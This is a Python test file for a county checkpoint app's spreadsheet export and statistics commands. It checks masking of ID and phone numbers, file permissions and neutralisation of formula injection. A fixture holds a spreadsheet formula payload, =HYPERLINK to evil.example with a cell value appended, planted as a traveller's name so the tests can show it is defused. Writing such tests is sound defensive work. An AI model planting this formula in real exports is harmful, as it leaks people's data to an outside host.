"""`checkpoint-county export` and `stats --json`: what the county's spreadsheet and figures say."""

from __future__ import annotations

import csv
import json
import stat
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from checkpoint_app.county.cli import main as county_main
from checkpoint_app.county.export import HEADINGS, neutralise
from checkpoint_app.records.model import CodeColour, Disposition
from checkpoint_app.storage.records import RecordFlags
from tests.county_fixtures import CLEAR, NOW, seed_checkpoint, traveller

FEVER = RecordFlags(fever=True, nat_expired=False)
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"点我")'


@pytest.fixture
def seeded(county_store):
    """Two checkpoints: releases, a turn-back with a yellow code, a fever, an injected name."""
    seed_checkpoint(
        county_store,
        "宁洛高速谭庄站",
        [
            (traveller(document_number="410721199001011236", phone="13812345678"), CLEAR),
            (traveller(name=ATTACK, notes="+1 来自上海", origin_name="@SUM(1)"), CLEAR),
            (
                traveller(
                    disposition=Disposition.TURN_BACK,
                    health_colour=CodeColour.YELLOW,
                    origin_name="上海市浦东新区",
                ),
                CLEAR,
            ),
        ],
    )
    seed_checkpoint(
        county_store,
        "白寺镇村道卡点",
        [
            (
                traveller(
                    disposition=Disposition.FEVER_CLINIC,
                    temperature=38.2,
                    checked_at=NOW + timedelta(days=1),
                ),
                FEVER,
            )
        ],
        township="白寺镇",
    )
    return county_store


def county(store, *args: str) -> int:
    return county_main([*args, "--db", store.engine.url.render_as_string(hide_password=False)])


def test_neutralise_prefixes_every_formula_start_and_leaves_plain_text_alone():
    for text in ("=1+1", "+86 138", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("张伟") == "张伟"
    assert neutralise("豫P12345") == "豫P12345"


def test_xlsx_export_has_chinese_columns_masked_numbers_and_no_live_formula(
    seeded, tmp_path, capsys
):
    out = tmp_path / "records.xlsx"
    assert county(seeded, "export", "--format", "xlsx", "--out", str(out)) == 0
    assert "已导出 4 条记录" in capsys.readouterr().out
    sheet = load_workbook(out).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HEADINGS
    by_col = [dict(zip(HEADINGS, r, strict=True)) for r in rows[1:]]
    ids = {r["证件号码"] for r in by_col}
    assert "4107**********1236" in ids
    assert not any("410721199001011236" in str(v) for r in by_col for v in r.values())
    assert {r["手机号"] for r in by_col} == {"138****5678"}
    injected = next(r for r in by_col if "来自上海" in str(r["备注"]))
    # A masked name keeps its first character: here the "=" itself, still neutralised.
    assert injected["姓名"].startswith("'=*")
    assert injected["备注"] == "'+1 来自上海"
    assert injected["来源地"] == "'@SUM(1)"
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} would run as a formula"
    assert by_col[0]["查验时间（北京时间）"] == "2022-04-10 17:30:00"
    assert {r["处置"] for r in by_col} >= {"放行", "劝返", "转运发热门诊"}


def test_unmasked_csv_is_utf8_with_bom_private_to_its_owner_and_says_it_is_sensitive(
    seeded, tmp_path, capsys
):
    out = tmp_path / "records.csv"
    assert county(seeded, "export", "--format", "csv", "--out", str(out), "--unmask") == 0
    assert "敏感个人信息" in capsys.readouterr().err
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert len(rows) == 4
    assert "410721199001011236" in {r["证件号码"] for r in rows}
    assert "13812345678" in {r["手机号"] for r in rows}
    assert ("'" + ATTACK) in {r["姓名"] for r in rows}


def test_export_since_takes_county_time_and_leaves_earlier_checks_out(seeded, tmp_path):
    out = tmp_path / "later.csv"
    # The fever check was 2022-04-11 17:30 Beijing time; the others a day earlier.
    assert (
        county(seeded, "export", "--format", "csv", "--since", "2022-04-11", "--out", str(out)) == 0
    )
    rows = list(csv.DictReader(out.read_text("utf-8-sig").splitlines()))
    assert [r["卡点"] for r in rows] == ["白寺镇村道卡点"]
    assert rows[0]["手机号"] == "138****5678"


def test_a_correction_is_exported_and_counted_once_as_its_newest_version(county_store, tmp_path):
    first = traveller()
    device = seed_checkpoint(county_store, "郝岗镇卡点", [(first, CLEAR)])
    seed_checkpoint(
        county_store,
        "郝岗镇卡点",
        [(first.corrected(disposition=Disposition.TURN_BACK), CLEAR)],
        device_id=device,
    )
    out = tmp_path / "c.csv"
    assert county(county_store, "export", "--format", "csv", "--out", str(out)) == 0
    rows = list(csv.DictReader(out.read_text("utf-8-sig").splitlines()))
    assert [(r["版本"], r["处置"]) for r in rows] == [("2", "劝返")]


def test_stats_json_gives_totals_per_checkpoint_disposition_and_colour(seeded, capsys):
    assert county(seeded, "stats", "--json") == 0
    stats = json.loads(capsys.readouterr().out)
    assert stats["total"] == 4 and stats["fever"] == 1
    assert stats["by_disposition"]["release"] == 2
    assert stats["by_disposition"]["turn_back"] == 1
    assert stats["by_disposition"]["fever_clinic"] == 1
    assert set(stats["by_disposition"]) == {d.value for d in Disposition}
    assert stats["by_colour"]["yellow"] == 1 and stats["by_colour"]["green"] == 3
    by_name = {c["name"]: c for c in stats["checkpoints"]}
    assert by_name["宁洛高速谭庄站"]["total"] == 3
    assert by_name["白寺镇村道卡点"] == {
        "name": "白寺镇村道卡点",
        "township": "白寺镇",
        "total": 1,
        "fever": 1,
        "nat_expired": 0,
        "by_disposition": {d.value: int(d is Disposition.FEVER_CLINIC) for d in Disposition},
        "by_colour": {c.value: int(c is CodeColour.GREEN) for c in CodeColour},
    }


def test_stats_since_counts_only_later_checks(seeded, capsys):
    assert county(seeded, "stats", "--json", "--since", "2022-04-11T00:00") == 0
    assert json.loads(capsys.readouterr().out)["total"] == 1
    assert county(seeded, "stats", "--since", "yesterday") == 1
    assert "无法识别的时间" in capsys.readouterr().err
